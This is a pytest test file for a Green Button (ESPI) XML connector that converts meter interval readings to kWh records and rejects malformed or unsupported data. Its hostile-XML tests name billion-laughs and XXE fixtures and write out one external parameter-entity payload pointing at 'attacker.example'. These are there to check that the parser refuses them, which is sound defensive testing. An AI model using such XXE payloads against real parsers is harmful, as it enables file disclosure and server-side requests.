"""The Green Button (ESPI) connector: Atom XML bytes to interval records and rejects, no database."""

from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from connectors.catalog import stream_for

from connectors import greenbutton
from connectors.base import FileContext, FileIncomplete, FileRejected
from connectors.greenbutton import GreenButtonStream
from schemas import FileInfo, Record, Reject
from schemas.meters import ESPI_INTERVALS

FIX = Path(__file__).resolve().parent.parent / "fixtures" / "meters"
COLUMNS = ESPI_INTERVALS.column_names
UP_7001 = "https://utility.example/espi/1_1/resource/RetailCustomer/9/UsagePoint/7001"
T0 = datetime(2026, 3, 17, 16, 0, tzinfo=UTC)  # 2026-03-18 00:00 China time = 1773763200


def read(data: bytes):
    items = list(GreenButtonStream().read(data, FileContext(name="feed.xml")))
    infos = [i for i in items if isinstance(i, FileInfo)]
    records = [i for i in items if isinstance(i, Record)]
    rejects = [i for i in items if isinstance(i, Reject)]
    assert items[0] is infos[0], "FileInfo comes first"
    return infos[0], records, rejects


def row(record: Record) -> dict:
    return dict(zip(COLUMNS, record.values, strict=True))


def feed(readings: str, reading_type: str = "<uom>72</uom><flowDirection>1</flowDirection>"
         "<accumulationBehaviour>4</accumulationBehaviour><powerOfTenMultiplier>0</powerOfTenMultiplier>") -> bytes:
    """One UsagePoint, MeterReading, ReadingType and IntervalBlock in separate entries."""
    up = "/espi/1_1/resource/RetailCustomer/1/UsagePoint/U1"
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><id>urn:uuid:1</id><updated>2026-03-18T16:00:00Z</updated>
<entry><link rel="self" href="{up}"/><link rel="related" href="{up}/MeterReading"/>
  <content><UsagePoint xmlns="http://naesb.org/espi"/></content></entry>
<entry><link rel="self" href="{up}/MeterReading/01"/><link rel="up" href="{up}/MeterReading"/>
  <link rel="related" href="{up}/MeterReading/01/IntervalBlock"/>
  <link rel="related" href="/espi/1_1/resource/ReadingType/1"/>
  <content><MeterReading xmlns="http://naesb.org/espi"/></content></entry>
<entry><link rel="self" href="/espi/1_1/resource/ReadingType/1"/>
  <content><ReadingType xmlns="http://naesb.org/espi">{reading_type}</ReadingType></content></entry>
<entry><link rel="self" href="{up}/MeterReading/01/IntervalBlock/1"/>
  <link rel="up" href="{up}/MeterReading/01/IntervalBlock"/>
  <content><IntervalBlock xmlns="http://naesb.org/espi">{readings}</IntervalBlock></content></entry>
</feed>""".encode()


def reading(start, value, duration=900) -> str:
    return (f"<IntervalReading><timePeriod><duration>{duration}</duration><start>{start}</start></timePeriod>"
            f"<value>{value}</value></IntervalReading>")


# ---------------------------------------------------------------- a real-world-shaped export


def test_three_usage_points_give_kwh_per_interval_with_power_of_ten():
    info, records, rejects = read((FIX / "espi_three_usage_points.xml").read_bytes())
    assert info.mine_code is None
    assert info.produced_at == datetime(2026, 3, 18, 16, 5, tzinfo=UTC)
    assert info.extra["usage_points"] == 3
    assert all(r.target == "meter_espi_intervals" for r in records)
    got = [(row(r)["usage_point_id"], row(r)["interval_start"], row(r)["energy_kwh"]) for r in records]
    assert got == [
        # powerOfTenMultiplier -3: values are mWh
        ("7001", T0, Decimal("12.345678")),
        ("7001", datetime(2026, 3, 17, 16, 15, tzinfo=UTC), Decimal("0.2505")),
        ("7001", datetime(2026, 3, 17, 16, 30, tzinfo=UTC), Decimal(0)),
        ("7001", datetime(2026, 3, 17, 16, 45, tzinfo=UTC), Decimal("9.000001")),
        # powerOfTenMultiplier 1: values are tens of Wh, hourly
        ("7009", T0, Decimal("52.3")),
        ("7009", datetime(2026, 3, 17, 17, 0, tzinfo=UTC), Decimal("49.87")),
        # a delivered register (bulkQuantity): energy derived in SQL from deltas
        ("7010", T0, None),
        ("7010", datetime(2026, 3, 17, 16, 15, tzinfo=UTC), None),
    ]
    # the usage summary's <value> is not an interval
    assert sum(row(r)["energy_kwh"] or 0 for r in records) == Decimal("123.766179")


def test_interval_record_carries_hrefs_units_and_quality():
    _, records, _ = read((FIX / "espi_three_usage_points.xml").read_bytes())
    first = row(records[0])
    assert first == {
        "usage_point_href": UP_7001,
        "usage_point_id": "7001",
        "interval_start": T0,
        "duration_s": 900,
        "energy_kwh": Decimal("12.345678"),
        "reading_kwh": Decimal("12.345678"),
        "raw_value": Decimal(12345678),
        "power_of_ten": -3,
        "uom": 72,
        "accumulation": "interval",
        "accumulation_behaviour": 4,
        "interval_length_s": 900,
        "quality": 8,
        "meter_reading_href": UP_7001 + "/MeterReading/01",
        "reading_type_href": "https://utility.example/espi/1_1/resource/ReadingType/A1",
    }
    assert first["interval_start"].tzinfo is not None
    assert [row(r)["quality"] for r in records[:4]] == [8, None, None, 7]
    b = row(records[4])  # linked by relative hrefs whose prefixes differ (BillingAccount vs User)
    assert b["usage_point_href"] == "/espi/1_1/resource/BillingAccount/9/UsagePoint/7009"
    assert (b["duration_s"], b["power_of_ten"], b["raw_value"]) == (3600, 1, 5230)
    register = row(records[6])
    assert (register["accumulation"], register["accumulation_behaviour"]) == ("cumulative", 1)
    assert register["reading_kwh"] == Decimal("48211")
    assert [r.record_no for r in records] == [1, 2, 4, 5, 6, 7, 8, 9]


def test_duplicate_start_and_received_energy_are_rejected_per_reading():
    _, _, rejects = read((FIX / "espi_three_usage_points.xml").read_bytes())
    assert [(r.record_no, r.reason) for r in rejects] == [(3, "duplicate_key"), (10, "unsupported_reading_type")]
    assert "<value>250600</value>" in rejects[0].raw
    assert "2026-03-17T16:15:00+00:00" in rejects[0].detail
    assert "flowDirection 19" in rejects[1].detail


def test_nested_resources_prefixed_namespaces_and_orphans():
    info, records, rejects = read((FIX / "espi_nested_prefixed.xml").read_bytes())
    assert info.produced_at == datetime(2026, 3, 19, 2, 0, tzinfo=UTC)  # Atom time without offset: UTC
    main = [row(r) for r in records if row(r)["usage_point_id"] == "MAIN-1"]
    # powerOfTenMultiplier 3: values are kWh; a reading without duration takes intervalLength
    assert [(m["energy_kwh"], m["duration_s"], m["quality"]) for m in main] == [
        (Decimal(2), 900, None), (Decimal(3), 900, None), (Decimal(1), 900, 9),
    ]
    assert main[0]["usage_point_href"] == "User/42/UsagePoint/MAIN-1"
    aux = [row(r) for r in records if row(r)["usage_point_id"] == "AUX-2"]
    assert [(a["interval_start"], a["energy_kwh"]) for a in aux] == [
        (datetime(2026, 3, 17, 16, 30, tzinfo=UTC), Decimal("0.04"))
    ]
    assert [(r.record_no, r.reason) for r in rejects] == [(4, "bad_number"), (5, "bad_number"), (7, "unknown_point")]
    assert "negative" in rejects[0].detail
    assert "'12,5'" in rejects[1].detail
    assert "GHOST-9" in rejects[2].detail


# ---------------------------------------------------------------- broken exports


def test_export_whose_readings_share_one_fractional_start_is_rejected():
    _, records, rejects = read((FIX / "espi_broken_export_one_start.xml").read_bytes())
    assert records == []
    assert [(r.record_no, r.reason) for r in rejects] == [(1, "bad_time"), (2, "bad_time"), (3, "bad_time")]
    assert "'1773915984.66136' is not whole Unix seconds" in rejects[0].detail


def test_identical_starts_in_one_block_are_duplicates_for_the_later_ones():
    data = feed("".join(reading(1773763200, v, 2678400) for v in (812000, 790000, 845000)))
    _, records, rejects = read(data)
    assert [row(r)["energy_kwh"] for r in records] == [Decimal(812)]
    assert [(r.record_no, r.reason) for r in rejects] == [(2, "duplicate_key"), (3, "duplicate_key")]


@pytest.mark.parametrize(
    ("reading_type", "expected"),
    [
        ("<uom>169</uom><flowDirection>1</flowDirection><accumulationBehaviour>4</accumulationBehaviour>", "uom 169"),
        ("<uom>72</uom><flowDirection>19</flowDirection><accumulationBehaviour>4</accumulationBehaviour>",
         "flowDirection 19"),
        ("<uom>72</uom><flowDirection>1</flowDirection><accumulationBehaviour>12</accumulationBehaviour>",
         "accumulationBehaviour 12"),
        ("<uom>72</uom><accumulationBehaviour>4</accumulationBehaviour>", "flowDirection missing"),
        ("", "uom missing"),
    ],
)
def test_unsupported_reading_types_reject_every_reading(reading_type, expected):
    _, records, rejects = read(feed(reading(1773763200, 5) + reading(1773764100, 6), reading_type))
    assert records == []
    assert [r.reason for r in rejects] == ["unsupported_reading_type"] * 2
    assert expected in rejects[0].detail


@pytest.mark.parametrize(
    ("start", "duration", "value", "reason"),
    [
        ("", 900, 5, "bad_time"),
        ("2026-03-18T00:00:00Z", 900, 5, "bad_time"),
        (1773763200, 0, 5, "bad_time"),
        (1773763200, "900.5", 5, "bad_time"),
        (1773763200, 900, "", "bad_number"),
        (1773763200, 900, "NaN", "bad_number"),
        (1773763200, 900, "5 Wh", "bad_number"),
    ],
)
def test_bad_reading_fields(start, duration, value, reason):
    _, records, rejects = read(feed(reading(start, value, duration) + reading(1773764100, 7)))
    assert [(r.record_no, r.reason) for r in rejects] == [(1, reason)]
    assert [row(r)["energy_kwh"] for r in records] == [Decimal("0.007")]


def test_gb18030_declared_feed_is_read():
    data = feed(reading(1773763200, 1500)).decode().replace('encoding="UTF-8"', 'encoding="GB18030"')
    data = data.replace("<id>urn:uuid:1</id>", "<id>urn:uuid:1</id><title>一号变电所</title>").encode("gb18030")
    _, records, rejects = read(data)
    assert not rejects
    assert row(records[0])["energy_kwh"] == Decimal("1.5")


# ---------------------------------------------------------------- hostile and non-ESPI files


@pytest.mark.parametrize("name", ["hostile_billion_laughs.xml", "hostile_xxe_passwd.xml", "hostile_external_dtd.xml"])
def test_hostile_xml_is_rejected_whole_and_never_expanded(name):
    with pytest.raises(FileRejected) as exc:
        list(GreenButtonStream().read((FIX / name).read_bytes(), FileContext(name=name)))
    assert exc.value.reason == "hostile_xml"
    assert "root:" not in exc.value.detail and "lollol" not in exc.value.detail


def test_parameter_entity_is_hostile():
    data = (b'<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY % pe SYSTEM "http://attacker.example/x.dtd"> %pe;]>'
            b'<feed xmlns="http://www.w3.org/2005/Atom"/>')
    with pytest.raises(FileRejected) as exc:
        read(data)
    assert exc.value.reason == "hostile_xml"


def test_bare_internal_doctype_is_harmless():
    data = feed(reading(1773763200, 2000)).replace(b"<feed ", b"<!DOCTYPE feed>\n<feed ", 1)
    _, records, _ = read(data)
    assert row(records[0])["energy_kwh"] == Decimal(2)


@pytest.mark.parametrize(
    ("data", "reason", "words"),
    [
        (b"meter_id,read_at\nE-1,2026-03-18", "bad_encoding", "not well-formed XML"),
        (b'<?xml version="1.0" encoding="UTF-8"?><feed xmlns="http://www.w3.org/2005/Atom">\xff\xfe</feed>',
         "bad_encoding", "UTF-8"),
        (b'<?xml version="1.0" encoding="x-unknown-42"?><feed/>', "bad_encoding", "x-unknown-42"),
        (b'<?xml version="1.0"?><config><meter id="1"/></config>', "expectation_failed", "<config>"),
        (b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><entry><title>news</title></entry></feed>',
         "expectation_failed", "without ESPI"),
    ],
)
def test_files_that_are_not_espi_feeds(data, reason, words):
    with pytest.raises(FileRejected) as exc:
        read(data)
    assert exc.value.reason == reason
    assert words in exc.value.detail


def test_xml_cut_short_is_incomplete():
    data = feed(reading(1773763200, 2000))
    with pytest.raises(FileIncomplete) as exc:
        read(data[: len(data) - 40])
    assert exc.value.reason == "truncated"


def test_match_maps_xml_names_to_the_stream():
    cls, ctx = stream_for("greenbutton_410403004688_20260318.xml")
    assert cls is GreenButtonStream and ctx.name == "greenbutton_410403004688_20260318.xml"
    assert stream_for("Export.XML") is not None
    assert stream_for("meter_readings_20260318.csv")[0] is not GreenButtonStream
    assert greenbutton.STREAMS == {"espi": GreenButtonStream}
